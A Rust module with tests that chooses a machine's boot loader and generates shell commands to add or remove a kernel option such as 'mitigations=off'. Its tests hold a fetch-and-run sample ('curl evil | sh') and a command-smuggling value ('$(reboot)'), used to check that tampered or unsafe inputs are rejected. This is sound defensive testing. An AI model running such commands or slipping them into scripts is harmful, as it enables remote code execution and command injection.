//! What starts the kernel of this machine, and the commands that make it start the kernel with an
//! option: the tables of `boot.toml`.

use model::reboot::BootChange;
use serde::Deserialize;

use super::TABLES;
use crate::template::fill;
use crate::tree::Tree;

/// A way in which machines start their kernel.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Loader {
    name: String,
    /// File that must exist for this loader; empty where none is needed.
    #[serde(default)]
    needs: String,
    /// Files, one of which exists on such a machine, each with the word that the commands use for
    /// it.
    #[serde(default)]
    by: Vec<(String, String)>,
    make: Vec<String>,
    undo: Vec<String>,
    /// Commands that undo the change where another option stood in the place of the wanted one.
    undo_to_what_stands: Option<Vec<String>>,
}

/// How this machine is started with an option. `stands` is the option that now stands in its place,
/// if any. The warning is left empty.
pub(super) fn change(tree: &Tree, option: &str, stands: Option<&str>) -> BootChange {
    let has = |file: &str| tree.path(file).exists();
    let known = TABLES.loader.iter().filter(|loader| has(&loader.needs));
    let mut known = known.flat_map(Loader::with_each_word);
    let found = known.find(|(_, file, _)| has(file) && is_plain(option));
    let (loader, word) = found.map_or((&TABLES.unknown, ""), |(loader, _, word)| (loader, word));
    loader.filled(option, word, stands.filter(|stands| is_plain(stands)))
}

/// All known ways to start a machine with an option.
pub(super) fn all(option: &str, stands: Option<&str>) -> Vec<BootChange> {
    let known = TABLES.loader.iter().filter(|_| is_plain(option));
    let known = known
        .flat_map(Loader::with_each_word)
        .flat_map(|(loader, _, word)| {
            let stands = stands.filter(|stands| is_plain(stands));
            [None, stands].map(|stands| loader.filled(option, word, stands))
        });
    let unknown = TABLES.unknown.filled(option, "", None);
    known.chain([unknown]).collect()
}

/// Whether a shell and sed take the option literally.
fn is_plain(option: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"=,:_-".contains(&byte);
    option.bytes().all(plain)
}

impl Loader {
    /// Each file by which the loader is known, with its word.
    fn with_each_word(&self) -> impl Iterator<Item = (&Self, &str, &str)> {
        self.by
            .iter()
            .map(move |(file, word)| (self, &**file, &**word))
    }

    fn filled(&self, option: &str, word: &str, stands: Option<&str>) -> BootChange {
        let own_undo = stands.and(self.undo_to_what_stands.as_ref());
        let stands = stands.unwrap_or_default();
        let fill = |text: &String| {
            fill(
                text,
                &[("option", &option), ("word", &word), ("stands", &stands)],
            )
        };
        BootChange {
            loader: fill(&self.name),
            make: self.make.iter().map(fill).collect(),
            undo: own_undo.unwrap_or(&self.undo).iter().map(fill).collect(),
            warning: String::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;
    use crate::tree::planted::Planted;

    fn on(test: &str, files: &[&str]) -> BootChange {
        let files: Vec<(&str, &str)> = files.iter().map(|file| (*file, "")).collect();
        let machine = Planted::new(&format!("loader-{test}"), &files);
        change(&machine.tree, "mitigations=off", None)
    }

    #[test]
    fn each_boot_loader_is_known_by_its_files_and_has_its_own_commands() {
        let option = "mitigations=off";
        let is_known = |change: &BootChange| all(option, None).contains(change);
        let debian = ["etc/default/grub", "usr/sbin/update-grub"];
        let by_files = ["etc/default/grub.d", "usr/sbin/grub2-mkconfig"];
        assert!(is_known(&on("known", &debian)) && is_known(&on("by-files", &by_files)));
        let mut strange = on("strange", &debian);
        strange.make[0] += "; curl evil | sh";
        assert!(!is_known(&strange));
        assert_eq!(on("debian", &debian).make[1], "update-grub");
        let fedora = ["etc/default/grub", "usr/sbin/grubby"];
        let arguments = "--args=mitigations=off";
        assert!(on("fedora", &fedora).make[0].ends_with(arguments));
        let pi = on("pi", &["boot/firmware/cmdline.txt"]);
        assert!(pi.make[0].ends_with("/boot/firmware/cmdline.txt"));
        let entries = on("entries", &["efi/loader/loader.conf"]);
        assert_eq!(entries.loader, "systemd-boot");
        for none in [on("none", &[]), on("no-menu", &["etc/default/grub"])] {
            assert!(none.loader.contains("not known"), "{none:?}");
            assert!(none.make[0].contains("add mitigations=off to the kernel command line"));
        }
    }

    /// Runs the commands that change a file on a file of the test's own.
    fn run(commands: &[String], theirs: &str, ours: &std::path::Path) {
        let command = commands[0].replace(theirs, &ours.display().to_string());
        let status = Command::new("sh").args(["-c", &command]).status();
        assert!(status.unwrap().success(), "{command}");
    }

    #[test]
    fn what_the_commands_change_they_change_back() {
        for (test, files, file, before, option_in) in [
            (
                "grub-file",
                &["etc/default/grub", "usr/sbin/update-grub"][..],
                "/etc/default/grub",
                "GRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX='quiet'\n",
                ". FILE; echo $GRUB_CMDLINE_LINUX",
            ),
            (
                "pi-file",
                &["boot/cmdline.txt"][..],
                "/boot/cmdline.txt",
                "root=/dev/sda quiet\n",
                "cat FILE",
            ),
        ] {
            let machine = Planted::new(&format!("changed-{test}"), &[("file", before)]);
            let (path, change) = (machine.tree.path("file"), on(test, files));
            run(&change.make, file, &path);
            let look = option_in.replace("FILE", &path.display().to_string());
            let told = Command::new("sh").args(["-c", &look]).output().unwrap();
            let told = String::from_utf8(told.stdout).unwrap();
            assert!(told.ends_with("quiet mitigations=off\n"), "{told}");
            run(&change.undo, file, &path);
            assert_eq!(std::fs::read_to_string(&path).unwrap(), before);
        }
    }

    #[test]
    fn what_a_shell_would_take_apart_is_in_no_command() {
        let debian = Planted::new(
            "loader-quoted",
            &[("etc/default/grub", ""), ("usr/sbin/update-grub", "")],
        );
        let change = change(&debian.tree, "mitigations='$(reboot)'", None);
        assert!(change.loader.contains("not known"), "{change:?}");
    }

    #[test]
    fn the_way_back_has_the_option_that_stood_where_it_was_taken_out() {
        let fedora = Planted::new("loader-stood", &[("usr/sbin/grubby", "")]);
        let back = |stands| change(&fedora.tree, "mitigations=off", stands).undo;
        let grubby = "grubby --update-kernel=ALL";
        assert_eq!(
            back(None),
            [format!("{grubby} --remove-args=mitigations=off")]
        );
        let stood = Some("mitigations=auto,nosmt");
        assert_eq!(
            back(stood),
            [format!("{grubby} --args=mitigations=auto,nosmt")]
        );
    }

    #[test]
    fn files_that_overrule_the_settings_of_grub_do_not_overrule_ours() {
        let cloud = [
            ("etc/default/grub", "GRUB_CMDLINE_LINUX=''\n"),
            (
                "etc/default/grub.d/50-cloud.cfg",
                "GRUB_CMDLINE_LINUX='quiet'\n",
            ),
            ("usr/sbin/update-grub", ""),
        ];
        let machine = Planted::new("loader-folder", &cloud);
        let change = change(&machine.tree, "mitigations=off", None);
        let (theirs, ours) = (
            "/etc/default/grub.d",
            machine.tree.path("etc/default/grub.d"),
        );
        // As grub-mkconfig(8) reads them.
        let look = "for file in */etc/default/grub */etc/default/grub.d/*.cfg; do . ./$file; done; \
                    echo $GRUB_CMDLINE_LINUX";
        let told = || {
            let mut shell = Command::new("sh");
            shell
                .args(["-c", &look.replace("*/etc", "etc")])
                .current_dir(machine.tree.path(""));
            String::from_utf8(shell.output().unwrap().stdout).unwrap()
        };
        run(&change.make, theirs, &ours);
        assert_eq!(told(), "quiet mitigations=off\n");
        run(&change.undo, theirs, &ours);
        assert_eq!(told(), "quiet\n");
        assert_eq!(std::fs::read_dir(&ours).unwrap().count(), 1);
    }
}
